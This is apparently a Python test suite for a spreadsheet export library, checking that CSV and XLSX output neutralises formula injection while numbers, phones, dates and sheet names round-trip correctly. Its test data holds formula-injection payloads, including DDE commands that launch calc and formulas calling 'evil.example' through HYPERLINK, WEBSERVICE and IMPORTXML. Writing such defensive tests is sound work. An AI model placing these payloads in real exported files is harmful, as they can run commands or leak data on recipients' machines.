from __future__ import annotations

import csv
import io
import random
import unicodedata
import zipfile
from datetime import date

import openpyxl
import pytest
import python_calamine
from hypothesis import given
from hypothesis import strategies as st

from lib.core.errors import CannotAnswer
from lib.core.guards import guard, is_live, unguard
from lib.reports.safe import LARGEST_SHEET, Column, Container, Sheet, sheet_name, to_csv, to_xlsx, write

LEADERS = ("", " ", "\t", "\r", "\n", "\u00a0", "\u200b", "\ufeff", "\u3000", '"', "'", "\u202e", "\u2060", " \u200b\t")
STARTS = (
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "-2+3+cmd|' /C calc'!A0",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1,1)",
    '=WEBSERVICE("http://evil.example")',
    "|calc",
    '%0A=IMPORTXML("http://evil.example","//a")',
)
LINKS = ("http://evil.example", "mailto:a@evil.example", "internal:Sheet1!A1", "external:c:\\x.xlsx", "file://evil/x")
TRIGGERS = tuple(leader + start for leader in LEADERS for start in STARTS) + LINKS

anything = st.text(st.characters(exclude_categories=["Cs"]))
visible = st.text(st.characters(exclude_categories=["Cs", "Cc", "Co", "Cn"]))


def starts_something(text: str) -> bool:
    """What a spreadsheet does, told apart from our own pattern: skip what is not seen, then look."""
    seen = [x for x in text if unicodedata.category(x) not in {"Zs", "Zl", "Zp", "Cc", "Cf"} and x not in "\"'"]
    return bool(seen) and unicodedata.normalize("NFKC", seen[0])[0] in "=+-@|%"


def live_parts(content: bytes) -> list[str]:
    """Formulas and links of a workbook, found by another library and in the raw parts."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    found = [repr(cell.value) for cell in cells if cell.data_type == "f" or cell.hyperlink]
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        raw = [name for name in parts.namelist() if b"<f>" in parts.read(name) or b"<hyperlink" in parts.read(name)]
    return found + raw


def test_there_are_enough_triggers() -> None:
    assert len(set(TRIGGERS)) >= 60


def test_no_trigger_is_live_in_a_workbook_as_cell_header_or_sheet_name() -> None:
    sheets = [Sheet(text, (Column(text, "text", [text, text]),)) for text in TRIGGERS]
    content = to_xlsx(*sheets)
    assert live_parts(content) == []
    assert not any(starts_something(name) for name in openpyxl.load_workbook(io.BytesIO(content)).sheetnames)


@pytest.mark.parametrize("trigger", [text for text in TRIGGERS if text not in LINKS])
def test_no_trigger_is_live_in_a_text_file_as_cell_or_header(trigger: str) -> None:
    content = to_csv(Sheet("list", (Column(trigger, "text", [trigger]),)))
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert [row[0] for row in rows] == ["'" + trigger, "'" + trigger]
    assert content.startswith(b'\xef\xbb\xbf"')


def test_what_the_guard_stops_starts_something_and_what_it_lets_pass_does_not() -> None:
    assert all(is_live(text) == starts_something(text) for text in TRIGGERS)


def test_numbers_and_phones_get_no_prefix() -> None:
    generator = random.Random(20_111_209)
    numbers = [
        f"{generator.choice(['', '-', '+'])}{generator.uniform(0, 10 ** generator.randint(1, 12)):{form}}"
        for form in (",.2f", ".4f", ".0f", ",.0f", ".3e", ".1f", ".2%")
        for _ in range(10_000)
    ]
    shapes = (
        "+86 138-####-####",
        "+44 20 7### ####",
        "+1 (555) ###-####",
        "+8613#########",
        "+49.30.######",
        "0##-########",
    )
    phones = [
        "".join(str(generator.randrange(10)) if x == "#" else x for x in shape) for shape in shapes for _ in range(6000)
    ]
    assert len(numbers) + len(phones) >= 100_000
    assert [text for text in numbers + phones if guard(text) != text] == []


@pytest.mark.parametrize("text", ["-2+3", "+1+1", "+1-1", "-A1", "+1/1/1", "-1)", "+", "-"])
def test_sums_that_look_like_numbers_or_phones_are_guarded(text: str) -> None:
    assert guard(text) == "'" + text


@given(anything)
def test_the_guard_comes_off_again(text: str) -> None:
    assert unguard(guard(text)) == text


@given(anything)
def test_whatever_starts_something_and_is_more_than_figures_is_guarded(text: str) -> None:
    for start in ("", "=", "\u200b+", "＠", " -"):
        cell = f"{start}{text}A1"
        assert guard(cell).startswith("'") or not starts_something(cell)


@given(st.lists(anything, min_size=1))
def test_a_text_file_read_again_gives_what_was_written(cells: list[str]) -> None:
    content = to_csv(Sheet("list", (Column("header", "text", cells),)))
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert [unguard(row[0]) for row in rows] == ["header", *cells]


@given(st.lists(visible.filter(bool), min_size=1, max_size=5))
def test_a_workbook_read_again_gives_what_was_written(cells: list[str]) -> None:
    content = to_xlsx(Sheet("list", (Column("header", "text", cells),)))
    rows = python_calamine.load_workbook(io.BytesIO(content)).get_sheet_by_index(0).to_python()
    assert [str(row[0]) for row in rows] == ["header", *cells]


@pytest.mark.parametrize("container", ["csv", "xlsx"])
def test_numbers_days_and_gaps_keep_their_kind(container: Container) -> None:
    content = write(
        Sheet(
            "list",
            (
                Column("money", "money", [8_911_407.904, float("nan"), None]),
                Column("day", "day", [date(2011, 12, 9), None, date(1850, 1, 1)]),
            ),
        ),
        container,
    )
    if container == "csv":
        assert content.decode("utf-8-sig").splitlines()[1:] == [
            '"8911407.904","2011-12-09"',
            '"",""',
            '"","1850-01-01"',
        ]
    else:
        rows = python_calamine.load_workbook(io.BytesIO(content)).get_sheet_by_index(0).to_python()
        assert rows[1:] == [[8_911_407.904, date(2011, 12, 9)], ["", ""], ["", "1850-01-01"]]


def test_what_a_cell_cannot_hold_is_left_out_of_a_workbook() -> None:
    content = to_xlsx(Sheet("list", (Column("header", "text", ["a\x00b", "x" * 40_000]),)))
    cells = [row[0] for row in python_calamine.load_workbook(io.BytesIO(content)).get_sheet_by_index(0).to_python()]
    assert [cells[1], len(str(cells[2]))] == ["ab", 32_767]


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("=1+1", "1+1"),
        ("a/b[c]:d", "a b c  d"),
        ("", "1"),
        ("History", "History 1"),
        ("'x'", "x"),
        ("客户" * 20, "客户" * 15 + "客"),
    ],
)
def test_a_sheet_name_is_one_that_a_workbook_accepts(name: str, safe: str) -> None:
    assert sheet_name(name) == safe


def test_two_sheets_never_share_a_name() -> None:
    content = to_xlsx(*(Sheet("List", (Column("a", "text", []),)) for _ in range(3)))
    assert openpyxl.load_workbook(io.BytesIO(content)).sheetnames == ["List", "List 2", "List 3"]


def test_a_list_longer_than_a_sheet_is_refused_with_the_way_out() -> None:
    sheet = Sheet("list", (Column("a", "whole", range(LARGEST_SHEET + 1)),))
    with pytest.raises(CannotAnswer, match="Choose CSV"):
        to_xlsx(sheet)
